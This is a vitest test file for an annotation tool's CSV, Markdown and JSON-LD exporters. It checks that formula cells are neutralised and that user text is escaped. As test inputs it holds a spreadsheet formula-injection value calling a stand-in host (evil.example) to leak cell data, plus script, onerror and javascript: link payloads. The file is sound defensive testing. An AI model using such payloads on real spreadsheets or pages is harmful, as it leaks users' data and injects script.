import { describe, it, expect } from 'vitest';
import { ANNOTATION_CSV_HEADER, annotationsToCsv } from '../../src/core/annotations/csv';
import { annotationsToMarkdown, escapeMarkdownLine } from '../../src/core/annotations/markdown';
import type { Annotation } from '../../src/core/annotations/types';

const BASE: Annotation = {
  id: 'anno:0b7f3c1e-2d4a-4c1b-9a8e-1f2e3d4c5b6a',
  url: 'https://www.dawn.com/news/1840012',
  title: 'Reko Diq: Balochistan’s share',
  quote: {
    type: 'TextQuoteSelector',
    exact: 'Balochistan’s share of the revenue remained unclear',
    prefix: 'Critics in Quetta said ',
    suffix: '.',
  },
  position: { type: 'TextPositionSelector', start: 500, end: 551 },
  color: 'blue',
  note: 'Ask the province: "25%", or more?\nSecond line, with a comma',
  tags: ['province', 'revenue'],
  entities: ['reko-diq', 'barrick'],
  verdicts: ['supported', 'unverified'],
  created: Date.UTC(2024, 4, 1, 10, 0, 0),
  updated: Date.UTC(2024, 4, 2, 8, 30, 15, 250),
};

/** A small RFC 4180 reader, to check what a spreadsheet gets. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('last row without CRLF');
  return rows;
}

describe('annotationsToCsv', () => {
  it('starts with a byte order mark and a header row', () => {
    const csv = annotationsToCsv([]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe('\uFEFFurl,title,quote,note,tags,color,entities,verdicts,created,updated\r\n');
    expect(ANNOTATION_CSV_HEADER).toHaveLength(10);
  });

  it('writes one row per annotation, quoted as RFC 4180 says', () => {
    const csv = annotationsToCsv([
      BASE,
      { ...BASE, note: '', tags: [], entities: [], verdicts: [] },
    ]);
    const rows = readCsv(csv.slice(1));
    expect(rows).toHaveLength(3);
    expect(rows[1]).toEqual([
      'https://www.dawn.com/news/1840012',
      'Reko Diq: Balochistan’s share',
      'Balochistan’s share of the revenue remained unclear',
      'Ask the province: "25%", or more?\nSecond line, with a comma',
      'province; revenue',
      'blue',
      'reko-diq; barrick',
      'supported; unverified',
      '2024-05-01T10:00:00.000Z',
      '2024-05-02T08:30:15.250Z',
    ]);
    expect(rows[2]?.slice(3, 8)).toEqual(['', '', 'blue', '', '']);
    // Quotes doubled inside a quoted cell; the line break inside the cell stays a bare \n.
    expect(csv).toContain('"Ask the province: ""25%"", or more?\nSecond line, with a comma"');
    // Every row ends with CRLF.
    expect(csv.split('\r\n')).toHaveLength(4);
  });

  it('keeps "Balochistan’s" intact', () => {
    const csv = annotationsToCsv([BASE]);
    expect(csv).toContain('Balochistan’s share of the revenue remained unclear');
    expect(csv).not.toMatch(/â€™/);
  });

  it('neutralises cells a spreadsheet would read as formulas', () => {
    const evil: Annotation = {
      ...BASE,
      title: '+SUM(A1:A9)',
      note: '=HYPERLINK("http://evil.example/?d="&A1, "Click me")',
      tags: ['@cmd', 'x'],
      quote: { ...BASE.quote, exact: '-2+3' },
    };
    const [, row] = readCsv(annotationsToCsv([evil]).slice(1));
    expect(row?.[1]).toBe("'+SUM(A1:A9)");
    expect(row?.[2]).toBe("'-2+3");
    expect(row?.[3]).toBe('\'=HYPERLINK("http://evil.example/?d="&A1, "Click me")');
    expect(row?.[4]).toBe("'@cmd; x");
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

describe('annotationsToMarkdown', () => {
  it('groups by page, with a heading linking to it, and lists quote, note, tags and colour', () => {
    const other: Annotation = {
      ...BASE,
      id: 'anno:2',
      url: 'https://www.reuters.com/x',
      title: 'Reuters story',
      quote: { ...BASE.quote, exact: 'about 7,500 jobs' },
      note: '',
      tags: [],
      color: 'yellow',
    };
    const earlier: Annotation = {
      ...BASE,
      id: 'anno:3',
      quote: { ...BASE.quote, exact: 'First paragraph\nSecond paragraph' },
      position: { type: 'TextPositionSelector', start: 10, end: 42 },
      note: 'A note',
      tags: ['t'],
      color: 'green',
    };
    const md = annotationsToMarkdown([BASE, other, earlier]);
    expect(md).toBe(
      [
        '# Factmark annotations',
        '',
        '## [Reko Diq: Balochistan’s share](<https://www.dawn.com/news/1840012>)',
        '',
        '<https://www.dawn.com/news/1840012>',
        '',
        '> First paragraph',
        '>',
        '> Second paragraph',
        '',
        'A note',
        '',
        'Tags: t · Colour: green',
        '',
        '> Balochistan’s share of the revenue remained unclear',
        '',
        'Ask the province: "25%", or more?  ',
        'Second line, with a comma',
        '',
        'Tags: province, revenue · Colour: blue',
        '',
        '## [Reuters story](<https://www.reuters.com/x>)',
        '',
        '<https://www.reuters.com/x>',
        '',
        '> about 7,500 jobs',
        '',
        'Colour: yellow',
        '',
      ].join('\n'),
    );
  });

  it('escapes user text so it cannot inject links, images, HTML or formatting', () => {
    const note = [
      '[click here](javascript:alert(1)) ![img](https://evil.example/x.png)',
      '<script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt;',
      '**bold** _em_ `code` ~~gone~~ | a | b |',
      '# Not a heading',
      '> not a quote',
      '- not a list',
      '1. not a list either',
      '    not code',
      'Costs $1.25 billion or $1.3 billion',
      'Visit https://evil.example or www.evil.example',
    ].join('\n');
    const md = annotationsToMarkdown([
      { ...BASE, note, title: '[t](javascript:x) <b>', tags: ['<i>x</i>', '[y](z)'] },
    ]);
    expect(md).toContain(
      '\\[click here\\](javascript:alert(1)) !\\[img\\](https\\://evil.example/x.png)',
    );
    expect(md).toContain(
      '\\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\> \\&lt;b\\&gt;',
    );
    expect(md).toContain('\\*\\*bold\\*\\* \\_em\\_ \\`code\\` \\~\\~gone\\~\\~ \\| a \\| b \\|');
    expect(md).toContain('\n\\# Not a heading');
    expect(md).toContain('\n\\> not a quote');
    expect(md).toContain('\n\\- not a list');
    expect(md).toContain('\n1\\. not a list either');
    expect(md).toContain('\nnot code');
    expect(md).toContain('Costs \\$1.25 billion or \\$1.3 billion');
    expect(md).toContain('Visit https\\://evil.example or www\\.evil.example');
    expect(md).toContain('## [\\[t\\](javascript:x) \\<b\\>](<https://www.dawn.com/news/1840012>)');
    expect(md).toContain('Tags: \\<i\\>x\\</i\\>, \\[y\\](z)');
    // Nothing user-written opens a link or a tag unescaped.
    const userPart = md.slice(md.indexOf('> Balochistan'));
    expect(userPart).not.toMatch(/(^|[^\\])[[<]/);
  });

  it('does not link a page that is not http(s)', () => {
    const md = annotationsToMarkdown([{ ...BASE, url: 'javascript:alert(1)', title: '' }]);
    expect(md).toContain('## javascript:alert(1)');
    expect(md).not.toContain('](');
  });

  it('escapes a single line', () => {
    expect(escapeMarkdownLine('  + item')).toBe('\\+ item');
    expect(escapeMarkdownLine('=== ')).toBe('\\=== ');
    expect(escapeMarkdownLine('a\\b')).toBe('a\\\\b');
    expect(escapeMarkdownLine('Balochistan’s')).toBe('Balochistan’s');
  });
});

describe('automatic highlights as JSON-LD', () => {
  it('writes mentions and figures as Web Annotations in page order', async () => {
    const { reportToJsonLd } = await import('../../src/core/report/jsonld');
    const report = {
      version: 1 as const,
      url: 'https://news.example/story',
      title: 'Story',
      mentions: [{ entity: 'exim' as const, text: 'EXIM', start: 4, end: 8 }],
      figures: [
        {
          text: '$1.25 billion',
          start: 22,
          end: 35,
          kind: 'money' as const,
          value: 1.25e9,
          unit: 'USD',
          attribute: 'exim.financing',
          verdict: 'supported' as const,
          facts: ['seed:a.txt:1'],
        },
      ],
    };
    const doc = JSON.parse(reportToJsonLd(report)) as {
      type: string;
      total: number;
      first: {
        items: {
          motivation: string;
          target: { source: string; selector: { exact?: string; start?: number }[] };
        }[];
      };
    };
    expect(doc.type).toBe('AnnotationCollection');
    expect(doc.total).toBe(2);
    expect(doc.first.items.map((i) => i.motivation)).toEqual(['identifying', 'assessing']);
    expect(doc.first.items[1]?.target.source).toBe('https://news.example/story');
    expect(doc.first.items[1]?.target.selector[0]?.exact).toBe('$1.25 billion');
    expect(doc.first.items[1]?.target.selector[1]?.start).toBe(22);
  });
});
